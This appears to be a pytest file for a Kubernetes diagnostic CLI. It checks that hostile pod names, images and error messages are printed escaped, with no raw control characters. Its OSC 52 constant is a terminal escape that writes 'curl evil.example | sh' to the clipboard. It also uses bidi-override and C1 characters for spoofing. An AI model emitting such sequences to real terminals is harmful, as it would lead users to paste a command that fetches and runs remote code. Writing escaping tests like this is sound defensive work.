"""Cluster text on the CLI's stdout and stderr, end to end: the real `k8sdoctor` in a subprocess against
the local API server (or a snapshot), with hostile names, images and messages. No ESC, C1 or bidi
character reaches the terminal raw; JSON stays valid and carries the exact value as an escape."""

from __future__ import annotations

import json

import orjson
import pytest

from k8sdoctor.fakeapi import FakeApiServer

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\"  # writes "curl evil.example | sh" to the clipboard
RAW = ("\x1b", "\x9b", "\u202e", "\x07")


def assert_clean(*texts: str) -> None:
    for text in texts:
        for ch in RAW:
            assert ch not in text, f"raw {ch!r} in {text!r}"


def crashing_pod(name: str, image: str, message: str = "") -> dict:
    waiting = {"reason": "CrashLoopBackOff", "message": message or "back-off 5m0s restarting failed container=app"}
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name, "namespace": "rt", "creationTimestamp": "-1h"},
        "spec": {"nodeName": "worker-1", "containers": [{"name": "app", "image": image}]},
        "status": {
            "phase": "Running",
            "containerStatuses": [
                {
                    "name": "app",
                    "image": image,
                    "ready": False,
                    "restartCount": 4,
                    "state": {"waiting": waiting},
                    "lastState": {"terminated": {"reason": "Error", "exitCode": 1, "message": message}},
                }
            ],
        },
    }


@pytest.fixture
def hostile_server():
    with FakeApiServer() as srv:
        srv.apply({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "rt"}})
        srv.apply(crashing_pod("app-0", f"gcr.io/distroless/static{OSC52}:nonroot", f"panic: bad config \x9b2J\u202etxt.exe{OSC52}"))
        yield srv


def test_debug_hint_shows_the_image_escaped(run_cli, hostile_server, tmp_path):
    """The distroless hint names the image; the CLI printed it raw (issue 17)."""
    kubeconfig = hostile_server.write_kubeconfig(tmp_path / "kc", namespace="rt")
    result = run_cli("debug", "pod", "app-0", "--yes", "--no-attach", kubeconfig=kubeconfig)
    assert result.code == 0, result.err
    assert "distroless" in result.out and "\\x1b]52;c;" in result.out
    assert_clean(result.out, result.err)


def test_json_output_escapes_c1_and_bidi_and_round_trips(run_cli, hostile_server, tmp_path):
    kubeconfig = hostile_server.write_kubeconfig(tmp_path / "kc", namespace="rt")
    result = run_cli("diagnose", "pod", "app-0", "-o", "json", kubeconfig=kubeconfig)
    assert result.code == 1, result.err
    assert_clean(result.out, result.err)
    assert "\\u009b2J" in result.out and "\\u202e" in result.out
    parsed = orjson.loads(result.out)
    assert parsed == json.loads(result.out)
    quoted = [e["text"] for f in parsed["findings"] for e in f["evidence"]]
    assert any("panic: bad config \x9b2J\u202etxt.exe" + OSC52 in q for q in quoted), quoted


@pytest.mark.parametrize("fmt", ["text", "yaml", "markdown"])
def test_other_formats_show_no_raw_control_character(run_cli, hostile_server, tmp_path, fmt):
    kubeconfig = hostile_server.write_kubeconfig(tmp_path / "kc", namespace="rt")
    result = run_cli("diagnose", "pods", "-o", fmt, kubeconfig=kubeconfig)
    assert result.code == 1, result.err
    assert "panic: bad config" in result.out
    assert_clean(result.out, result.err)


def test_did_you_mean_shows_snapshot_pod_names_escaped(run_cli, tmp_path):
    snapshot = tmp_path / "pods.json"
    pods = [crashing_pod(f"web-1{OSC52}", "nginx:1.27.2"), crashing_pod("web-1\u202e", "nginx:1.27.2")]
    snapshot.write_bytes(orjson.dumps({"apiVersion": "v1", "kind": "List", "items": pods}))
    result = run_cli("diagnose", "pod", "web-1", "-n", "rt", "--snapshot", str(snapshot))
    assert result.code == 2
    assert "did you mean" in result.err and "\\x1b]52;c;" in result.err and "<U+202E>" in result.err
    assert_clean(result.out, result.err)


def test_error_messages_from_the_api_server_are_escaped(run_cli, hostile_server, tmp_path):
    kubeconfig = hostile_server.write_kubeconfig(tmp_path / "kc", namespace="rt")
    hostile_server.fail("pods", 500, message=f"etcd is sad{OSC52}")
    result = run_cli("diagnose", "pods", kubeconfig=kubeconfig)
    assert result.code == 2
    assert "etcd is sad\\x1b]52" in result.err
    assert_clean(result.out, result.err)
